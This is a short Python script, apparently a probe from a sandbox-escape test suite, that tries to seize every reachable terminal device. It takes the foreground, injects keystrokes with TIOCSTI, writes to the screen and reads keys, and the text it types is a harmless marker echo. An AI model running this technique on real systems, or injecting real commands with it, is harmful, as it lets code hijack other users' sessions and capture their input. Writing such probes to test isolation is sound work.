#!/usr/bin/env python3
"""Looks for a terminal: to take its foreground, to type into it, to write on it, to read its keys. With arguments,
it tries these terminals only."""
import fcntl
import glob
import os
import signal
import struct
import sys
import termios

import playing

TYPED = "echo OWNED-BY-BOT\n"


def take(path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    playing.got("terminal", path)
    playing.attempt("foreground", fcntl.ioctl, fd, termios.TIOCSPGRP, struct.pack("i", os.getpgrp()))
    for key in TYPED:
        playing.attempt("typing", fcntl.ioctl, fd, termios.TIOCSTI, key.encode())
    playing.attempt("screen", os.write, fd, b"OWNED-BY-BOT")
    playing.attempt("keys", os.read, fd, 100)


def attack():
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)
    signal.signal(signal.SIGTTIN, signal.SIG_IGN)
    everything = ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty*"),
                  *("/dev/pts/%d" % i for i in range(64)), "/proc/1/fd/0", "/proc/%d/fd/0" % os.getppid()]
    for path in sys.argv[1:] or everything:
        playing.attempt(path, take, path)


playing.play_after(attack)
